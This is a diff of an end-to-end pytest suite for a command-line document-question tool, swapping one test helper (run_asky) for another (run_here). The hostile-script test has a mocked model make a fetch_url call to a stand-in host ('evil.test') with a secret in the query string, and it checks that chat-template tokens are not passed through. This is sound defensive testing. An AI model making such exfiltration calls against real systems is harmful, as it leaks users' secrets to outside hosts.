@@ -18,6 +18,7 @@ import pytest
 from tests.e2e.test_ask_documents import CHECK_EXPORT
 from tests.support.asky_command import ROOT, clean_environment, run_asky, run_python
 from tests.support.endpoint import OLLAMA, Answer, Call, Endpoint, Problem, Request, Rules, Wire
+from tests.support.here import run_here
 
 pytestmark = pytest.mark.model
 
@@ -86,7 +87,7 @@ def test_a_hostile_script_gets_nothing_through(home: Path, docs: Path, tmp_path:
     fetch = Answer(calls=(Call("fetch_url", {"url": "http://evil.test/?q=secret"}),))
     with Endpoint(SEARCH, fetch, hostile) as endpoint:
         environ = environ_of(endpoint)
-        done = run_asky("-r", "-d", str(docs), "-m", "priced", TIDES, "--json", home=home, environ=environ)
+        done = run_here("-r", "-d", str(docs), "-m", "priced", TIDES, "--json", home=home, environ=environ)
         assert done.returncode == 0, done.stderr
         answer = json.loads(done.stdout)
         last = endpoint.requests[-1]
@@ -104,7 +105,7 @@ def test_a_hostile_script_gets_nothing_through(home: Path, docs: Path, tmp_path:
     assert "unknown_tool" in told
     assert "<|im_start|>" not in told
     assert "<passage " in told
-    strict = run_asky("-r", "-d", str(docs), "-m", "priced", TIDES, "--strict", home=home, environ=environ_of(endpoint))
+    strict = run_here("-r", "-d", str(docs), "-m", "priced", TIDES, "--strict", home=home, environ=environ_of(endpoint))
     assert strict.returncode == 5  # the endpoint is gone now: no other answer may come
 
 
@@ -116,7 +117,7 @@ def test_a_run_stopped_by_money_keeps_its_partial_answer(home: Path, docs: Path)
 
     with Endpoint(search_again) as endpoint:
         arguments = ("-r", "-d", str(docs), "-m", "priced", TIDES, "--max-cost", "0.25")
-        done = run_asky(*arguments, "--json", home=home, environ=environ_of(endpoint))
+        done = run_here(*arguments, "--json", home=home, environ=environ_of(endpoint))
         assert done.returncode == 10, done.stderr
         answer = json.loads(done.stdout)
         calls = endpoint.played
@@ -124,10 +125,10 @@ def test_a_run_stopped_by_money_keeps_its_partial_answer(home: Path, docs: Path)
     assert answer["answer"] == "The moon raises two high tides a day [1]."
     assert 2 <= calls <= 8
     assert answer["usage"]["cost_usd"] < 0.25
-    assert f"{answer['usage']['cost_usd']:.4f} USD" in run_asky("runs", "list", home=home).stdout
+    assert f"{answer['usage']['cost_usd']:.4f} USD" in run_here("runs", "list", home=home).stdout
     with Endpoint(search_again) as endpoint:
         environ = environ_of(endpoint, ASKY_BUDGET__MAX_COST_PER_DAY_USD="0.01")
-        spent = run_asky("-r", "-d", str(docs), "-m", "priced", TIDES, home=home, environ=environ)
+        spent = run_here("-r", "-d", str(docs), "-m", "priced", TIDES, home=home, environ=environ)
         assert spent.returncode == 10
         assert "for today is reached" in spent.stderr
         assert endpoint.played == 0
@@ -136,7 +137,7 @@ def test_a_run_stopped_by_money_keeps_its_partial_answer(home: Path, docs: Path)
 def test_a_limit_of_money_needs_a_price(home: Path, docs: Path) -> None:
     with Endpoint("never") as endpoint:
         environ = environ_of(endpoint)
-        done = run_asky("-d", str(docs), "-m", "lab:test-model", TIDES, "--max-cost", "1", home=home, environ=environ)
+        done = run_here("-d", str(docs), "-m", "lab:test-model", TIDES, "--max-cost", "1", home=home, environ=environ)
         assert done.returncode == 2
         assert "price" in done.stderr
         assert endpoint.requests == []
@@ -157,7 +158,7 @@ def test_each_failure_has_its_exit_code_and_never_the_key(
 ) -> None:
     with Endpoint(entry) as endpoint:  # type: ignore[arg-type] # entries of several kinds
         environ = environ_of(endpoint)
-        done = run_asky("-d", str(docs), "-m", "priced", TIDES, "-v", home=home, environ=environ)
+        done = run_here("-d", str(docs), "-m", "priced", TIDES, "-v", home=home, environ=environ)
         assert done.returncode == code, done.stderr
         assert len(endpoint.requests) <= 4
     for word in words:
@@ -168,7 +169,7 @@ def test_each_failure_has_its_exit_code_and_never_the_key(
 
 def test_an_unknown_model_of_the_endpoint_is_3_and_named(home: Path) -> None:
     with Endpoint("never", rules=Rules(models=("other",))) as endpoint:
-        done = run_asky("-m", "lab:no-such-model", "-L", "Hello?", home=home, environ=environ_of(endpoint))
+        done = run_here("-m", "lab:no-such-model", "-L", "Hello?", home=home, environ=environ_of(endpoint))
     assert done.returncode == 3
     assert "no-such-model" in done.stderr
 
@@ -178,7 +179,7 @@ def test_a_model_that_is_down_is_said_in_time_with_what_to_do(home: Path) -> Non
         closed.bind(("127.0.0.1", 0))
         environ = {"OPENAI_BASE_URL": f"http://127.0.0.1:{closed.getsockname()[1]}/v1", "OPENAI_API_KEY": KEY}
         began = time.monotonic()
-        done = run_asky("-m", "openai:test-model", "-L", "Hello?", home=home, environ=environ)
+        done = run_here("-m", "openai:test-model", "-L", "Hello?", home=home, environ=environ)
     assert done.returncode == 5
     assert time.monotonic() - began < 90
     assert environ["OPENAI_BASE_URL"] in done.stderr
@@ -186,14 +187,14 @@ def test_a_model_that_is_down_is_said_in_time_with_what_to_do(home: Path) -> Non
 
 
 def test_a_key_that_is_not_set_is_3_and_the_variable_is_named(home: Path) -> None:
-    done = run_asky("-m", "openai:test-model", "Hello?", home=home)
+    done = run_here("-m", "openai:test-model", "Hello?", home=home)
     assert done.returncode == 3
     assert "OPENAI_API_KEY" in done.stderr
 
 
 def test_offline_refuses_a_model_on_another_machine(home: Path) -> None:
     environ = {"OPENAI_API_KEY": KEY}
-    done = run_asky("-m", "openai:test-model", "--offline", "Hello?", home=home, environ=environ)
+    done = run_here("-m", "openai:test-model", "--offline", "Hello?", home=home, environ=environ)
     assert done.returncode == 2
     assert "--offline" in done.stderr
 
@@ -201,21 +202,21 @@ def test_offline_refuses_a_model_on_another_machine(home: Path) -> None:
 def test_a_dry_run_sends_nothing_and_keeps_nothing(home: Path, docs: Path) -> None:
     with Endpoint("never") as endpoint:
         arguments = ("-r", "-d", str(docs), "-m", "priced", TIDES, "--dry-run")
-        done = run_asky(*arguments, home=home, environ=environ_of(endpoint))
+        done = run_here(*arguments, home=home, environ=environ_of(endpoint))
         assert done.returncode == 0, done.stderr
         assert "127.0.0.1" in done.stdout
         assert "USD" in done.stdout
-        plan = json.loads(run_asky(*arguments, "--json", home=home, environ=environ_of(endpoint)).stdout)
+        plan = json.loads(run_here(*arguments, "--json", home=home, environ=environ_of(endpoint)).stdout)
         assert endpoint.requests == []
     assert plan["schema"] == "asky.plan/1"
     assert plan["usual"]["cost_usd"] < plan["most"]["cost_usd"]
-    assert json.loads(run_asky("runs", "list", "--json", home=home).stdout)["runs"] == []
+    assert json.loads(run_here("runs", "list", "--json", home=home).stdout)["runs"] == []
 
 
 def test_what_happens_is_printed_as_lines_of_json(home: Path, docs: Path) -> None:
     with Endpoint(SEARCH, cites("The moon raises two high tides a day [{key}].")) as endpoint:
         arguments = ("-r", "-d", str(docs), "-m", "priced", TIDES, "--json-stream")
-        done = run_asky(*arguments, home=home, environ=environ_of(endpoint))
+        done = run_here(*arguments, home=home, environ=environ_of(endpoint))
     assert done.returncode == 0, done.stderr
     events = [json.loads(line) for line in done.stdout.splitlines()]
     kinds = [event["type"] for event in events]
@@ -223,7 +224,7 @@ def test_what_happens_is_printed_as_lines_of_json(home: Path, docs: Path) -> Non
     assert {"model_called", "tool_called", "tool_returned", "text_streamed"} <= set(kinds)
     text = "".join(event["text"] for event in events if event["type"] == "text_streamed")
     assert text == events[-1]["answer"]["answer"] == "The moon raises two high tides a day [1]."
-    failed = run_asky("-d", str(docs), "-m", "nobody", TIDES, "--json-stream", home=home)
+    failed = run_here("-d", str(docs), "-m", "nobody", TIDES, "--json-stream", home=home)
     assert failed.returncode == 3
     assert json.loads(failed.stdout.splitlines()[-1])["error"]["code"] == "not_configured"
     assert json.loads(failed.stderr)["code"] == "not_configured"
@@ -266,7 +267,7 @@ def test_ctrl_c_closes_the_response_and_keeps_the_partial_answer(home: Path, doc
         _, err = process.communicate(timeout=300)
         endpoint.wait_for_abandoned()
     assert process.returncode == 130, err
-    assert json.loads(run_asky("runs", "list", "--json", home=home).stdout)["runs"][0]["status"] == "cancelled"
+    assert json.loads(run_here("runs", "list", "--json", home=home).stdout)["runs"][0]["status"] == "cancelled"
     assert "stopped" in err
 
 
@@ -276,7 +277,7 @@ def test_a_prompt_that_the_endpoint_cuts_silently_is_said(home: Path, docs: Path
     rules = Rules(context_chars=300)
     with Endpoint("The moon raises two tides.", dialect=OLLAMA, rules=rules) as endpoint:
         environ = environ_of(endpoint)
-        done = run_asky("-L", "-d", str(docs), "-m", "priced", TIDES, "--json", home=home, environ=environ)
+        done = run_here("-L", "-d", str(docs), "-m", "priced", TIDES, "--json", home=home, environ=environ)
         assert any("prompt" in warning for warning in json.loads(done.stdout)["warnings"]), done.stdout
 
 
@@ -286,7 +287,7 @@ def test_a_lean_question_with_more_passages_than_fit_is_answered_from_those_that
         (docs / f"bay{number}.txt").write_text(text, "utf-8")
     rules = Rules(context_chars=5000)
     with Endpoint(cites("The moon raises two high tides a day [{key}]."), rules=rules) as endpoint:
-        done = run_asky("-L", "-d", str(docs), "-m", "priced", TIDES, "--json", home=home, environ=environ_of(endpoint))
+        done = run_here("-L", "-d", str(docs), "-m", "priced", TIDES, "--json", home=home, environ=environ_of(endpoint))
         sent = [request.messages[-1]["content"] for request in endpoint.requests]
     assert done.returncode == 0, done.stderr
     answer = json.loads(done.stdout)
@@ -303,8 +304,8 @@ def test_two_aliases_with_one_model_id_reach_their_own_endpoints(home: Path) -> 
             "ASKY_MODELS__OTHER__PROVIDER": "second",
             "ASKY_MODELS__OTHER__ID": "test-model",
         }
-        assert "from one" in run_asky("-L", "-m", "priced", "Hello?", home=home, environ=environ).stdout
-        assert "from two" in run_asky("-L", "-m", "other", "Hello?", home=home, environ=environ).stdout
+        assert "from one" in run_here("-L", "-m", "priced", "Hello?", home=home, environ=environ).stdout
+        assert "from two" in run_here("-L", "-m", "other", "Hello?", home=home, environ=environ).stdout
         assert one.requests[0].headers["authorization"] == f"Bearer {KEY}"
         assert "authorization" not in two.requests[0].headers
 
@@ -316,7 +317,7 @@ def test_the_prompts_of_a_run_share_their_beginning_byte_for_byte(home: Path, do
         return cites("The moon raises two high tides a day [{key}].")(request)
 
     with Endpoint(search_again) as endpoint:
-        done = run_asky("-r", "-d", str(docs), "-m", "priced", TIDES, home=home, environ=environ_of(endpoint))
+        done = run_here("-r", "-d", str(docs), "-m", "priced", TIDES, home=home, environ=environ_of(endpoint))
         assert done.returncode == 0, done.stderr
         prompts = [request.prompt for request in endpoint.requests]
         assert len({request.connection for request in endpoint.requests}) == 1
